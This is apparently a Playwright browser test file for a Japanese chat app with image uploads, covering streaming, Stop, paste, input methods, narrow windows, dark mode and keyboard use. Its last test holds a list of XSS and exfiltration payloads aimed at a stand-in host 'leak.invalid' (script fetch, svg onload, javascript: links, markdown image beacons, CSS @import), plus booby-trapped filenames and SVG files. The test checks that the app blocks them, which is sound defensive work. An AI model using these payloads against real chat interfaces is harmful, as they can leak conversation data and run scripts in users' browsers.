"""What only a browser can show: streaming, Stop, paste, input methods, narrow windows, keyboards, and what leaks."""

import base64
import time
from pathlib import Path
from typing import Any

import pytest
from fake_service import png

pytestmark = pytest.mark.browser


@pytest.fixture
def slow(server, model_folder: Path):
    return server("slow", model_folder)


@pytest.fixture
def echo(server, model_folder: Path):
    return server("echo", model_folder)


def _box(page: Any) -> Any:
    return page.get_by_test_id("stChatInputTextArea")


def _attach(page: Any, *images: tuple[str, bytes]) -> None:
    files = [{"name": name, "mimeType": "image/png", "buffer": data} for name, data in images]
    page.get_by_test_id("stChatInput").locator("input[type=file]").set_input_files(files)
    for name, _ in images:
        page.get_by_text(name).first.wait_for()


def _ask(page: Any, question: str, *images: tuple[str, bytes]) -> None:
    if images:
        _attach(page, *images)
    _box(page).fill(question)
    for _ in range(40):
        _box(page).press("Enter")
        page.wait_for_timeout(250)
        if not _box(page).input_value():
            return
    raise AssertionError("the question was not sent")  # the box takes none while a file is on its way


def _answer(page: Any, number: int = 0) -> Any:
    return page.get_by_test_id("stChatMessage").nth(2 * number + 1)


def _wait_for_end(page: Any, number: int = 0) -> None:
    _answer(page, number).get_by_text("最初の語まで").wait_for()


def test_several_images_and_turns(echo, open_page, shoot) -> None:
    page = open_page(echo)
    _ask(page, "二つの画像です。", ("a.png", png("red")), ("b.png", png("blue")))
    _wait_for_end(page)
    images = page.get_by_test_id("stChatMessage").first.locator("img")
    images.nth(1).wait_for()
    assert images.count() == 2
    assert "二つの画像です。" in _answer(page).inner_text()
    _ask(page, "次の質問です。")
    _answer(page, 1).get_by_text("次の質問です。").wait_for()
    shoot(page, "chat")


def test_an_image_is_pasted(echo, open_page) -> None:
    page = open_page(echo)
    data = base64.b64encode(png("green")).decode()
    _box(page).focus()
    page.evaluate(
        """data => {
            const bytes = Uint8Array.from(atob(data), c => c.charCodeAt(0));
            const transfer = new DataTransfer();
            transfer.items.add(new File([bytes], "pasted.png", {type: "image/png"}));
            document.activeElement.dispatchEvent(
                new ClipboardEvent("paste", {clipboardData: transfer, bubbles: true, cancelable: true}));
        }""",
        data,
    )
    page.get_by_text("pasted.png").first.wait_for()
    _box(page).fill("貼り付けました。")
    _box(page).press("Enter")
    _wait_for_end(page)
    images = page.get_by_test_id("stChatMessage").first.locator("img")
    images.first.wait_for()
    assert images.count() == 1


def test_text_appears_while_it_is_made_and_stop_frees_the_engine(slow, open_page) -> None:
    page = open_page(slow)
    _ask(page, "長く答えてください。", ("a.png", png()))
    deadline = time.time() + 60
    begun = len(slow.steps)
    while len(slow.steps) < begun + 8 and time.time() < deadline:
        page.wait_for_timeout(50)
    page.get_by_test_id("stChatInputStopButton").click()
    stopped = time.time()
    page.wait_for_timeout(2000)
    late = [step for step in slow.steps if step > stopped + 0.5]
    assert late == [], "the engine went on after Stop"
    assert len(slow.steps) - begun < 90  # of 96 tokens that were allowed
    page.get_by_role("button", name="作り直す").wait_for()


def test_a_reload_keeps_nothing_and_sessions_do_not_see_each_other(echo, open_page) -> None:
    first, second = open_page(echo), open_page(echo)
    _ask(first, "秘密のことば")
    _wait_for_end(first)
    assert second.get_by_text("秘密のことば").count() == 0
    first.reload()
    first.get_by_role("heading", level=1).wait_for()
    first.wait_for_timeout(500)
    assert first.get_by_text("秘密のことば").count() == 0


def test_the_enter_that_confirms_a_conversion_does_not_send(echo, open_page) -> None:
    page = open_page(echo)
    box = _box(page)
    box.focus()
    session = page.context.new_cdp_session(page)
    session.send("Input.imeSetComposition", {"text": "にほんご", "selectionStart": 4, "selectionEnd": 4})
    box.dispatch_event("keydown", {"key": "Enter", "keyCode": 229, "isComposing": True})
    page.wait_for_timeout(500)
    assert page.get_by_test_id("stChatMessage").count() == 0
    session.send("Input.insertText", {"text": "日本語"})
    box.press("Enter")
    _wait_for_end(page)
    assert "日本語" in _answer(page).inner_text()


def test_a_narrow_window_has_everything_in_reach(echo, open_page, shoot) -> None:
    page = open_page(echo, viewport={"width": 375, "height": 720})
    _ask(page, "とても長い質問です。" * 10, ("a.png", png()))
    _wait_for_end(page)
    assert page.evaluate("document.documentElement.scrollWidth") <= 375
    box = _box(page).bounding_box()
    assert box is not None
    assert box["x"] >= 0
    assert box["x"] + box["width"] <= 375
    shoot(page, "phone")


def test_dark_where_the_browser_is_dark(echo, open_page, shoot) -> None:
    def brightness(page: Any) -> float:
        colour = page.evaluate("getComputedStyle(document.querySelector('[data-testid=stApp]')).backgroundColor")
        return sum(float(part) for part in colour[colour.index("(") + 1 : -1].split(",")[:3]) / 3

    light, dark = open_page(echo, color_scheme="light"), open_page(echo, color_scheme="dark")
    _ask(dark, "暗い画面です。", ("a.png", png()))
    _wait_for_end(dark)
    assert brightness(light) > 200
    assert brightness(dark) < 60
    shoot(dark, "dark")


def _tab_to(page: Any, there: str) -> None:
    for _ in range(120):
        page.keyboard.press("Tab")
        if page.evaluate(there):
            return
    raise AssertionError(f"the keyboard does not lead there: {there}")


def test_with_the_keyboard_alone(echo, open_page) -> None:
    page = open_page(echo)
    _tab_to(page, "document.activeElement.dataset.testid === 'stChatInputTextArea'")
    page.keyboard.type("キーボードだけです。")
    page.keyboard.press("Enter")
    _wait_for_end(page)
    _tab_to(page, "(document.activeElement.innerText || '').includes('作り直す')")
    page.keyboard.press("Enter")
    _wait_for_end(page)
    assert page.get_by_test_id("stChatMessage").count() == 2


_HOST = "http://leak.invalid"
_FORMS = (
    "![x]({u}/{n}.png)",
    "[押す]({u}/{n})",
    "{u}/{n}",
    "<img src={u}/{n}.png>",
    "<script>fetch('{u}/{n}');window.pwn=1</script>",
    "<svg onload=\"window.pwn=1;fetch('{u}/{n}')\">",
    "<iframe src={u}/{n}></iframe>",
    "[x](javascript:window.pwn=1)",
    "![x][r{n}]\n\n[r{n}]: {u}/{n}.png",
    '<link rel=stylesheet href="{u}/{n}.css"><style>@import url({u}/{n})</style>',
)


def test_nothing_that_is_said_or_uploaded_leaves_the_page_or_runs(echo, open_page) -> None:
    page = open_page(echo)
    left: list[str] = []
    allowed = (echo.address, echo.address.replace("http", "ws", 1), "data:", "blob:")
    page.on("request", lambda request: None if request.url.startswith(allowed) else left.append(request.url))
    hostile = [_FORMS[n % len(_FORMS)].format(u=_HOST, n=n) for n in range(190)]
    for begin in range(0, len(hostile), 19):
        _ask(page, "\n".join(hostile[begin : begin + 19]))
        _wait_for_end(page, begin // 19)
    for n, name in enumerate(("<img src=x onerror=window.pwn=1>.png", f"![x]({_HOST.replace('/', '_')}).png", "a.png")):
        for data in (
            b"",
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwn=1'/>",
            b"\x89PNG\r\n\x1a\n" + b"\0" * n,
        )[:4]:
            page.get_by_test_id("stChatInput").locator("input[type=file]").set_input_files(
                [{"name": name, "mimeType": "image/png", "buffer": data or b"x"}]
            )
            page.wait_for_timeout(200)
            _box(page).fill(f"添付 {n}")
            _box(page).press("Enter")
            page.get_by_text("この画像は使えません。").first.wait_for()
            body = page.inner_text("body")
            assert not any(inside in body for inside in ("Traceback", "0x7f", "BytesIO", "site-packages"))
    page.wait_for_timeout(1000)
    assert left == []
    assert page.evaluate("window.pwn") is None
    assert page.locator(f"a[href*='{_HOST}']").count() == 0


def test_pages_beside_the_first(echo, open_page, shoot) -> None:
    for path, heading in (("exam", "試験の練習"), ("captions", "説明文の作成")):
        page = open_page(echo, path)
        page.get_by_role("heading", name=heading).wait_for()
        shoot(page, path)
